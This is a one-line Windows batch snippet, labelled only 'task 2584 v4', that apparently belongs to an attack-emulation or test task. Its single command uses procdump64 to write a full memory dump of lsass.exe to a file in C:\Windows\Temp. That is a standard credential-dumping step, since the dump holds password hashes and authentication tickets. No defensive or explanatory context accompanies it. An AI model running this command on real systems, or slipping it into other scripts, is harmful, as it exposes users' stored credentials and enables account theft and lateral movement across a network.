REM task 2584 v4
procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp
